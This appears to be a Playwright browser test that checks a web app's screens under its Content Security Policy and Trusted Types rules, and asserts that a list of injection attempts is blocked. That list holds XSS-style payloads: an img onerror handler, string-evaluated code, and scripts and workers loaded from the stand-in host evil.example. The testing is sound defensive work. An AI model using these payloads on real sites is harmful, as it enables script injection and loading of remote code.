"""The app as it is built, under the policy the office sends with it: every screen works, and no text becomes markup or code."""

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.camera import Scene, spread
from tests.e2e.browser import DESK, Browser
from tests.firm import PIN, Firm

pytestmark = pytest.mark.browser
WATCH = "globalThis.refused = []; addEventListener('securitypolicyviolation', (told) => refused.push(told.violatedDirective + told.sample))"
SCREENS = (
    "board", "samples", "register", "slips", "slips/new", "receipts", "repairs", "counts", "counts/new", "fairs", "fairs/new", "imports",
    "handover", "relay", "notices", "outbox", "more", "more/phones", "more/people", "more/places", "more/labels", "more/cases",
)  # fmt: skip
ATTACKS = {
    "markup": "document.body.innerHTML = '<img src=x onerror=\"globalThis.got = 1\">'",
    "code": "setTimeout('globalThis.got = 1')",
    "evaluated": "new Function('globalThis.got = 1')()",
    "a worker from elsewhere": "new Worker('https://evil.example/w.js')",
    "a worker from a text": "new Worker('data:text/javascript,1')",
    "a script from elsewhere": "document.createElement('script').src = 'https://evil.example/s.js'",
    "another policy": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
}
# In a task of the page's own: what a debugger asks for is let through.
TRY = "() => new Promise((said) => setTimeout(() => { try { ATTACK; said('done') } catch (error) { said(error.name) } }))"


def test_SE5_every_screen_works_under_the_policy_and_no_text_becomes_code(browser_of: Callable[..., Browser], firm: Firm) -> None:
    firm.person("Sue", "supervisor", "clerk", "keeper", pin=PIN)
    tray, setter = firm.place("Tray 1"), firm.phone()
    rings = firm.samples(setter, 3, tray)
    browser = browser_of("sue", DESK)
    browser.show([Scene(spread([firm.tag_of(ring) for ring in rings], module=4.5), seconds=1.0)])
    browser.open()
    page = browser.page
    page.context.add_init_script(WATCH)
    page.reload()
    browser.enrol(firm.invite("desk"), "desk")
    browser.unlock("Sue", PIN)
    browser.go("scan")
    browser.aim("Out", "Sue")
    browser.start_camera()
    expect(page.locator(".basket-row.stored")).to_have_count(3)  # the worker and its WebAssembly have started
    for screen in SCREENS:
        browser.go(screen)
        page.wait_for_function("() => unanswered() === 0 && document.querySelector('main, .board')?.textContent.length > 0")
    browser.go(f"samples/{rings[0]}")
    expect(page.locator(".timeline, .facts").first).to_be_visible()
    assert page.evaluate("refused") == []
    assert not [line for line in browser.said if "Content Security Policy" in line or "TrustedHTML" in line or line.startswith("pageerror")]
    made = {name: page.evaluate(TRY.replace("ATTACK", attack)) for name, attack in ATTACKS.items()}
    assert "done" not in made.values() and page.evaluate("globalThis.got") is None, made
